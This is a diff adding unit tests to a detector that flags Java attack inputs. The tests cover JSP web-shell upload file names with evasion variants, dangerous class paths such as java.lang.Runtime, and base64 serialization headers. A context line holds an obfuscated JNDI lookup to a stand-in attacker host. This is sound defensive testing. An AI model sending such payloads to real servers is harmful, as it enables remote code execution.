@@ -59,4 +59,41 @@ describe('javaDetector', () => {
   it('given braces written as character references, when inspected, then the JNDI lookup is found', () => {
     expect(inspect('$&lbrace;jndi:ldap://evil.example/a}')?.detector).toBe('java/jndi-lookup');
   });
+
+  it.each([
+    ['header.x-filename', 'a.jsp'],
+    ['header.x_filename', 'B.JSP'],
+    ['header.x-file-name', 'foo.jspx...'],
+    ['body.file#filename', 'shell. jspx'],
+    ['header.x-filename', 'shell.jsp '],
+  ])('given the upload of a Java page at %s (%j), when inspected, then it is a java/script-upload hit', (point, name) => {
+    expect(javaDetector.inspect({ point, value: name, raw: name }, { paranoia: 1 })?.detector).toBe('java/script-upload');
+  });
+
+  it.each([
+    ['header.x-filename', 'report.jsp.pdf'],
+    ['header.x-filename', 'jsp-notes.txt'],
+    ['query.page', 'index.jsp'],
+  ])('given %s %j, when inspected, then no upload fires', (point, name) => {
+    expect(javaDetector.inspect({ point, value: name, raw: name }, { paranoia: 1 })?.detector).not.toBe('java/script-upload');
+  });
+
+  it.each(['java.lang.Runtime', 'java.Runtime', 'java.io.File', 'ProcessBuilder.evil.clonetransformer', 'org.omg.CORBA'])(
+    'given the class path %j as a whole value (a parameter name a binder evaluates), when inspected at paranoia 1, then it is a java hit',
+    (name) => {
+      expect(inspect(name)?.type).toBe('java');
+    },
+  );
+
+  it.each(['javascript is fun', 'com.example.app', 'org.chart.title', 'java coffee'])('given the look-alike %j, when inspected at paranoia 1, then nothing fires', (text) => {
+    expect(inspect(text)).toBeNull();
+  });
+
+  it.each(['rO0ABXNyABFqYXZh', 'KztAAU', 'xCs7QAFzcgAR'])('given the serialization magic in base64 at any alignment (%j), when inspected at paranoia 1, then it is a java/serialized-object hit', (text) => {
+    expect(inspect(text)?.detector).toBe('java/serialized-object');
+  });
+
+  it.each(['ro0ab', 'kztaau', 'Cs7Q'])('given the look-alike %j, when inspected, then no serialized object fires', (text) => {
+    expect(inspect(text)?.detector).not.toBe('java/serialized-object');
+  });
 });
